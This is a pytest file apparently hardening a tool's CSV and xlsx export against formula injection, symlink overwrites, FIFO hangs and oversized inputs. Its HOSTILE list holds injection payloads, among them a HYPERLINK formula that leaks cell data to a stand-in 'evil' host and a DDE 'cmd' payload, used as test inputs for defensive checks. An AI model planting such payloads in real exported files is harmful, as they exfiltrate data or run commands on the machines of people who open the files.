"""#29 item 6: ``kvgate export`` of a received campaign is safe for spreadsheets and file systems.

The findings: a check reason ``=1+1`` became a live formula in xlsx (and ``=HYPERLINK(...)``), CSV
cells started with ``=``; a symlinked ``export/checks.csv`` overwrote its target; a FIFO evidence
file hung the export and a symlink to ``/dev/zero`` ended in MemoryError."""

from __future__ import annotations

import csv
import json
import os
import threading
from pathlib import Path

import pytest

from harness.cli.main import run as cli
from harness.errors import InputError
from harness.store.campaign import GateDir
from harness.store.export import campaign_tables, neutralise, write_tables
from tests.store.test_history_import_export import _gate_result, _write

HOSTILE = ["=1+1", '=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def _campaign(tmp_path: Path, reason: str) -> Path:
    root = tmp_path / "reports"
    result = _gate_result("c1", "G3", "2026-01-01T01:00:00Z", 0.3)
    result.checks[0].observations[0].reason = reason
    _write(root, "c1", "G3", result)
    return root / "c1"


@pytest.mark.parametrize("reason", HOSTILE)
def test_csv_cells_are_not_formulas(tmp_path: Path, reason: str) -> None:
    (f,) = [p for p in write_tables(campaign_tables(_campaign(tmp_path, reason)), tmp_path / "out", "csv")
            if p.name == "checks.csv"]
    with f.open(newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["reason"] == "'" + reason
    assert row["measured"] == "0.3"  # numbers stay numbers


@pytest.mark.parametrize("reason", HOSTILE[:2])
def test_xlsx_cells_are_not_formulas(tmp_path: Path, reason: str) -> None:
    import openpyxl

    (xl,) = write_tables(campaign_tables(_campaign(tmp_path, reason)), tmp_path / "out", "xlsx")
    ws = openpyxl.load_workbook(xl)["checks"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("reason") + 1)
    assert cell.data_type == "s" and cell.value == "'" + reason  # text, never a formula ("f")
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_hostile_column_names_are_neutralised(tmp_path: Path) -> None:
    (f,) = write_tables({"t": [{"=cmd|' /C calc'!A0": "x"}]}, tmp_path, "csv")
    assert f.read_text().splitlines()[0].startswith("'=cmd")
    assert neutralise(-1) == -1 and neutralise("ok") == "ok"


def test_a_symlinked_output_is_replaced_not_written_through(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "checks.csv").symlink_to(victim)
    write_tables(campaign_tables(_campaign(tmp_path, "ok")), out, "csv")
    assert victim.read_text() == "precious"
    assert not (out / "checks.csv").is_symlink() and "ttft_reduction" in (out / "checks.csv").read_text()
    assert not [p for p in out.iterdir() if p.name.startswith(".kvgate-export-")]


def _records_path(campaign: Path) -> Path:
    rec = campaign / "G3" / "evidence" / "sweep" / "candidate" / "c2" / "rep1" / "measure" / "records.jsonl"
    rec.parent.mkdir(parents=True)
    return rec


def test_a_fifo_evidence_file_is_refused_not_waited_on(tmp_path: Path) -> None:
    campaign = _campaign(tmp_path, "ok")
    os.mkfifo(_records_path(campaign))
    done = threading.Event()
    errors: list[BaseException] = []

    def export() -> None:
        try:
            campaign_tables(campaign)
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            errors.append(exc)
        finally:
            done.set()

    t = threading.Thread(target=export, daemon=True)
    t.start()
    if not done.wait(20):
        with open(_records_path_existing(campaign), "wb"):  # unblock the reader so the thread ends
            pass
        t.join(10)
        pytest.fail("the export hung on a FIFO")
    assert errors and isinstance(errors[0], InputError) and "not a regular file" in str(errors[0])


def _records_path_existing(campaign: Path) -> Path:
    return campaign / "G3" / "evidence" / "sweep" / "candidate" / "c2" / "rep1" / "measure" / "records.jsonl"


def test_a_link_to_dev_zero_is_refused(tmp_path: Path) -> None:
    campaign = _campaign(tmp_path, "ok")
    _records_path(campaign).symlink_to("/dev/zero")
    with pytest.raises(InputError, match="not a regular file"):
        campaign_tables(campaign)


def test_an_oversized_state_file_is_refused_with_the_limit(tmp_path: Path) -> None:
    campaign = _campaign(tmp_path, "ok")
    GateDir(campaign / "G3", "G3").mark_step_done("sweep/candidate/c2/rep1", {"summary": {"completed": 1}})
    with open(campaign / "G3" / "state.jsonl", "ab") as fh:
        fh.truncate(128 << 20)  # sparse
    with pytest.raises(InputError, match=r"state\.jsonl: \d+ bytes, over the \d+ byte limit"):
        campaign_tables(campaign)
    assert cli(["export", str(campaign), "--format", "csv", "-o", str(tmp_path / "o")]) == 2
    assert json.loads((campaign / "campaign.json").read_text()) == {}


@pytest.mark.parametrize("kind", ["symlink-to-dir", "symlink-to-file", "dangling-symlink", "file", "fifo"])
def test_an_existing_non_directory_output_is_refused_in_one_line(tmp_path: Path, kind: str,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """#50 item 4: ``-o PATH`` where PATH exists and is not a directory: exit 2 and one line naming
    it (before: FileExistsError from mkdir, exit 5), and nothing written through it."""
    campaign = _campaign(tmp_path, "ok")
    out, target = tmp_path / "out", tmp_path / "elsewhere"
    if kind == "symlink-to-dir":
        target.mkdir()
        out.symlink_to(target)
    elif kind == "symlink-to-file":
        target.write_text("keep")
        out.symlink_to(target)
    elif kind == "dangling-symlink":
        out.symlink_to(target)
    elif kind == "file":
        out.write_text("keep")
    else:
        os.mkfifo(out)
    assert cli(["export", str(campaign), "--format", "csv", "-o", str(out)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"kvgate: error: -o {out}: exists and is "), err
    assert "Traceback" not in "\n".join(err)
    if kind == "symlink-to-dir":
        assert list(target.iterdir()) == []
    if kind in ("symlink-to-file", "file"):
        assert (target if kind == "symlink-to-file" else out).read_text() == "keep"
    if kind == "dangling-symlink":
        assert not target.exists()
